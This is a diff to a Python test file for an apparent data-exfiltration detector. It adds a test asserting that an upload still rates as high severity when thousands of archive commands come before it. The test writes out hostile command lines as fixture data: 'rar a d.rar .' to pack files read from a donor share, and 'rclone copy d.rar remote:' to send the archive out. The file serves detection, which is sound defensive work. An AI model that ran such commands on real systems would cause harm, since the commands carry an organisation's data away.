@@ -158,6 +158,14 @@ def test_packing_after_reading_is_told_and_packing_with_egress_is_probably_leavi
     assert _one(_background(), [send, pack], [_DONORS]).level == "E3", "nothing of this class was read before"
 
 
+def test_carrying_away_is_found_behind_any_number_of_commands_that_pack() -> None:
+    """An intruder who packs thousands of times does not hide the one upload that follows."""
+    read = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
+    pack = _command(23, "rar a d.rar .")
+    send = _command(24, "rclone copy d.rar remote:")
+    assert _one(_background(), [read, *[pack] * 5100, send], [_DONORS]).level == "E1"
+
+
 def test_an_archive_fetched_from_the_web_server_is_egress() -> None:
     read = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
     pack = _command(23, "rar a d.rar .")
